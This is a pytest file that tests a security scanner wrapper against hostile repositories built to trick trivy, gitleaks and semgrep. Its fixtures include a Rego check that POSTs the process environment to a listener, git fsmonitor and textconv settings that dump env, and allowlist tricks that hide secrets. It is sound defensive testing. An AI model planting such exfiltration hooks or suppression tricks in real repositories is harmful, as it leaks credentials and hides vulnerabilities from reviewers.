"""Hostile repositories, part 2: the scanners' own control files, git tricks and exfiltration.

One generated repository per technique, each scanned with the real scanner(s) it targets. Each
test asserts that the hidden finding is still found (or its exception is listed), that no
loopback listener receives a credential, and that the shared trivy cache is untouched. Each
one opened the gate, leaked a credential or ran the repository's command on the main branch
before issue #13.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from hostile_support import Hostile, git, hostile_repo, listener, make_canaries, scan
from reliability_support import Run, require_real
from support.trivy_db import write_trivy_db

pytestmark = [pytest.mark.scanners]

EVAL_CODE = "def run(expression):\n    return eval(expression)\n"


def findings(run: Run, **match: object) -> list[dict[str, object]]:
    return [f for f in run.report["findings"] if all(f.get(k) == v for k, v in match.items())]


def secret_in(run: Run, path: str, scanner: str | None = None) -> list[dict[str, object]]:
    return [
        f
        for f in run.report["findings"]
        if f["category"] == "secret"
        and f["path"] == path
        and f["status"] == "new"
        and (scanner is None or scanner in (f.get("scanners") or [f["scanner"]]))
    ]


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    path = tmp_path / "trivy-cache"
    write_trivy_db(path, [])
    return path


def tree_digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


# --- trivy -------------------------------------------------------------------------------------

EXFIL_REGO = """\
# METADATA
# title: exfil
# custom:
#   id: USR-0001
#   avd_id: USR-0001
#   severity: LOW
#   input:
#     selector:
#       - type: dockerfile
package user.exfil

import rego.v1

deny contains res if {
  resp := http.send({"method": "POST", "url": "URL/env", "body": opa.runtime().env, "raise_error": false})
  res := result.new("exfil", {})
}
"""


def test_trivy_yaml_rego_check_cannot_send_our_environment(tmp_path: Path, cache: Path) -> None:
    """trivy.yaml in the repository names a Rego check that POSTs `opa.runtime().env`."""
    require_real("trivy")
    canaries = make_canaries()
    before = tree_digest(cache)
    with listener() as attacker:
        repo = hostile_repo(tmp_path / "repo")
        repo.write("trivy.yaml", "rego:\n  check:\n    - policy\n  namespaces:\n    - user\n")
        repo.write("policy/exfil.rego", EXFIL_REGO.replace("URL", attacker.url))
        repo.write("Dockerfile", "FROM alpine:3.19\nUSER nobody\n")
        repo.commit()
        env = {"OPENAI_API_KEY": canaries.openai, "SLACK_BOT_TOKEN": canaries.slack, "SLACK_CHANNEL": "C1"}
        # `secscan scan .` from inside the repository, as the README says
        from reliability_support import real_scanner_env, secscan

        run = secscan(
            "scan",
            ".",
            "--layers",
            "trivy",
            "--no-ai",
            "--no-slack",
            env=real_scanner_env(cache, **env),
            out=tmp_path / "out",
            cwd=repo.root,
        )
    assert attacker.received(*canaries.values()) == []
    assert attacker.requests == [], "trivy evaluated the repository's Rego check"
    assert run.code == 1 and secret_in(run, "config.py")
    assert "trivy.yaml ignored" in " ".join(run.report["warnings"])
    assert tree_digest(cache) == before


def test_trivyignore_and_trivy_yaml_severity_hide_nothing(tmp_path: Path, cache: Path) -> None:
    require_real("trivy")
    repo = hostile_repo(tmp_path / "repo")
    repo.write(".trivyignore", "github-pat\n")
    repo.write("trivy.yaml", "severity:\n  - UNKNOWN\n")
    repo.commit()
    run = scan(repo.root, tmp_path / "out", cache, "--no-ai", layers="trivy")
    assert run.code == 1
    assert secret_in(run, "config.py", "trivy")
    [entry] = [e for e in run.report["exceptions"] if e["source"] == ".trivyignore"]
    assert entry["pattern"] == "github-pat" and entry["applied"] is False and entry["hid"]


@pytest.mark.parametrize(
    "path", ["examples/settings.py", "docs/setup.md", "tests/conftest_example.py", "src/vendor/keys.py"]
)
def test_trivy_secret_allow_rules_do_not_skip_paths(tmp_path: Path, cache: Path, path: str) -> None:
    """trivy's built-in allow rules skip any path with "example", test folders, vendor/, Markdown."""
    require_real("trivy")
    repo = hostile_repo(tmp_path / "repo", secret_path=path)
    run = scan(repo.root, tmp_path / "out", cache, "--no-ai", layers="trivy")
    assert run.code == 1, run.report["reasons"]
    assert secret_in(run, path, "trivy")


def test_implausible_trivy_db_is_refused(tmp_path: Path, cache: Path) -> None:
    """A DB whose metadata promises to stay fresh for a century would never be replaced."""
    require_real("trivy")
    meta_path = cache / "db" / "metadata.json"
    meta = json.loads(meta_path.read_text())
    meta["NextUpdate"] = "2125-01-01T00:00:00Z"
    meta_path.write_text(json.dumps(meta))
    repo = hostile_repo(tmp_path / "repo")
    run = scan(repo.root, tmp_path / "out", cache, "--no-ai", layers="trivy")
    layer = run.layer("trivy")
    assert layer["status"] == "error" and "refused" in layer["error"]
    assert run.code == 1


def test_operator_db_repository_gets_its_own_cache_folder(tmp_path: Path, cache: Path) -> None:
    """Even the operator's non-default DB repository never writes the shared default DB."""
    require_real("trivy")
    before = tree_digest(cache)
    operator = tmp_path / "operator.toml"
    operator.write_text('[scan]\ntrivy_db_repositories = ["127.0.0.1:9/mirror/trivy-db:2"]\n')
    repo = hostile_repo(tmp_path / "repo")
    run = scan(repo.root, tmp_path / "out", cache, "--no-ai", "--config", str(operator), layers="trivy")
    assert run.layer("trivy")["status"] == "error"  # that mirror does not exist: no DB at all
    assert secret_in(run, "config.py", "trivy")  # the other trivy scanners still ran
    assert {k: v for k, v in tree_digest(cache).items() if not k.startswith("db-repositories/")} == before


# --- gitleaks ----------------------------------------------------------------------------------


def history_only(repo: Hostile) -> None:
    """Remove the secret from HEAD: only gitleaks (history) can find it now."""
    (repo.root / repo.secret_path).write_text("TOKEN = None\n")
    repo.commit("remove it")


def test_minus_diff_attribute_hides_nothing_from_history(tmp_path: Path, cache: Path) -> None:
    require_real("gitleaks")
    repo = hostile_repo(tmp_path / "repo", commit=False)
    repo.write(".gitattributes", "* -diff\n")
    repo.commit("add")
    history_only(repo)
    run = scan(repo.root, tmp_path / "out", cache)
    assert run.code == 1 and secret_in(run, "config.py", "gitleaks")


def test_a_nul_byte_does_not_make_a_file_unscanned(tmp_path: Path, cache: Path) -> None:
    require_real("gitleaks")
    repo = hostile_repo(tmp_path / "repo", secret_path="blob.dat", commit=False)
    repo.write("blob.dat", f'token = "{repo.secret}"\0\n'.encode())
    repo.commit("add")
    run = scan(repo.root, tmp_path / "out", cache)
    assert run.code == 1 and secret_in(run, "blob.dat", "gitleaks")


def test_gitleaks_allow_comment_is_not_honoured(tmp_path: Path, cache: Path) -> None:
    require_real("gitleaks")
    repo = hostile_repo(tmp_path / "repo", commit=False)
    repo.write("config.py", f'TOKEN = "{repo.secret}"  # gitleaks:allow\n')
    repo.commit("add")
    history_only(repo)
    run = scan(repo.root, tmp_path / "out", cache)
    assert run.code == 1 and secret_in(run, "config.py", "gitleaks")


def test_gitleaks_toml_allowlist_is_not_used(tmp_path: Path, cache: Path) -> None:
    require_real("gitleaks")
    repo = hostile_repo(tmp_path / "repo")
    repo.write(".gitleaks.toml", "[extend]\nuseDefault = true\n\n[allowlist]\npaths = ['''.*''']\n")
    repo.commit()
    history_only(repo)
    run = scan(repo.root, tmp_path / "out", cache)
    assert run.code == 1 and secret_in(run, "config.py", "gitleaks")
    assert ".gitleaks.toml ignored" in " ".join(run.report["warnings"])


def test_gitleaksignore_is_listed_and_still_counts(tmp_path: Path, cache: Path) -> None:
    require_real("gitleaks")
    repo = hostile_repo(tmp_path / "repo")
    commit = git(repo.root, "rev-parse", "HEAD")
    fingerprint = f"{commit}:config.py:github-pat:1"
    repo.write(".gitleaksignore", fingerprint + "\n")
    repo.commit()
    history_only(repo)
    run = scan(repo.root, tmp_path / "out", cache)
    assert run.code == 1 and secret_in(run, "config.py", "gitleaks")
    [entry] = [e for e in run.report["exceptions"] if e["source"] == ".gitleaksignore"]
    assert entry["pattern"] == fingerprint and entry["applied"] is False and entry["hid"]


def test_a_backslash_file_name_is_reported(tmp_path: Path, cache: Path) -> None:
    """gitleaks cannot read the history of a file named `…\\`; trivy still finds the secret in it
    and the gitleaks layer says which files it could not read."""
    require_real("gitleaks", "trivy")
    repo = hostile_repo(tmp_path / "repo", secret_path="keys\\", commit=False)
    repo.write("README", "x\n")
    repo.commit("add")
    run = scan(repo.root, tmp_path / "out", cache, "--no-ai", layers="gitleaks,trivy")
    assert run.code == 1 and secret_in(run, "keys\\", "trivy")
    assert any("backslash" in note for note in run.layer("gitleaks")["notes"])


# --- semgrep -----------------------------------------------------------------------------------


def code_finding(run: Run, path: str) -> list[dict[str, object]]:
    return findings(run, category="code", path=path, rule_id="python-eval-exec-injection", status="new")


def test_nosemgrep_is_listed_and_still_counts(tmp_path: Path, cache: Path) -> None:
    require_real("semgrep")
    repo = hostile_repo(tmp_path / "repo")
    repo.write("app.py", "def run(expression):\n    return eval(expression)  # nosemgrep\n")
    repo.commit()
    run = scan(repo.root, tmp_path / "out", cache, layers="semgrep")
    assert code_finding(run, "app.py")
    [entry] = [e for e in run.report["exceptions"] if e["kind"] == "inline"]
    assert entry["source"] == "app.py:2" and entry["applied"] is False


@pytest.mark.parametrize("folder", ["tests", "vendor", "build"])
def test_semgrep_default_ignored_folders_are_scanned(tmp_path: Path, cache: Path, folder: str) -> None:
    require_real("semgrep")
    repo = hostile_repo(tmp_path / "repo")
    repo.write(f"{folder}/app.py", EVAL_CODE)
    repo.commit()
    run = scan(repo.root, tmp_path / "out", cache, layers="semgrep")
    assert code_finding(run, f"{folder}/app.py")
    assert any("secscan's own list" in note for note in run.layer("semgrep")["notes"])


def test_semgrepignore_is_listed_and_still_counts(tmp_path: Path, cache: Path) -> None:
    require_real("semgrep")
    repo = hostile_repo(tmp_path / "repo")
    repo.write("src/app.py", EVAL_CODE)
    repo.write(".semgrepignore", "src/\n")
    repo.commit()
    run = scan(repo.root, tmp_path / "out", cache, layers="semgrep")
    assert code_finding(run, "src/app.py")
    [entry] = [e for e in run.report["exceptions"] if e["source"] == ".semgrepignore"]
    assert entry["pattern"] == "src/" and entry["applied"] is False and entry["hid"]


def test_a_file_over_one_megabyte_is_scanned(tmp_path: Path, cache: Path) -> None:
    require_real("semgrep")
    repo = hostile_repo(tmp_path / "repo")
    padding = "# " + "x" * 1_200_000 + "\n"  # one long comment: over semgrep's 1 MB default, cheap to parse
    repo.write("big.py", EVAL_CODE + padding)
    repo.commit()
    assert (repo.root / "big.py").stat().st_size > 1_000_000
    run = scan(repo.root, tmp_path / "out", cache, layers="semgrep")
    assert code_finding(run, "big.py")


# --- git run on a repository another user owns --------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown to another uid")
def test_foreign_repository_git_config_runs_nothing(tmp_path: Path, cache: Path) -> None:
    """A checkout owned by another uid whose .git/config names commands (core.fsmonitor, a
    textconv driver the .gitattributes selects): git must run none of them for us or a scanner."""
    require_real("gitleaks", "trivy")
    marker_dir = tmp_path / "markers"
    marker_dir.mkdir()
    repo = hostile_repo(tmp_path / "repo", commit=False)
    repo.write(".gitattributes", "*.py diff=steal\n")
    repo.commit("add")
    history_only(repo)
    fsmonitor = marker_dir / "fsmonitor"
    textconv = marker_dir / "textconv"
    git(repo.root, "config", "core.fsmonitor", f"env > {fsmonitor}; true")
    git(repo.root, "config", "diff.steal.textconv", f"env > {textconv}; cat")
    (repo.root / "untracked.txt").write_text("x\n")  # give `git ls-files --others` work to do
    for path in [repo.root, *repo.root.rglob("*")]:
        os.lchown(path, 54321, 54321)
    canaries = make_canaries()
    run = scan(
        repo.root,
        tmp_path / "out",
        cache,
        "--no-ai",
        "--no-slack",
        layers="gitleaks,trivy",
        env={"OPENAI_API_KEY": canaries.openai},
    )
    assert not fsmonitor.exists(), "core.fsmonitor from the repository's .git/config ran"
    assert not textconv.exists(), "a textconv driver from the repository's .git/config ran"
    assert run.code == 1 and secret_in(run, "config.py", "gitleaks")
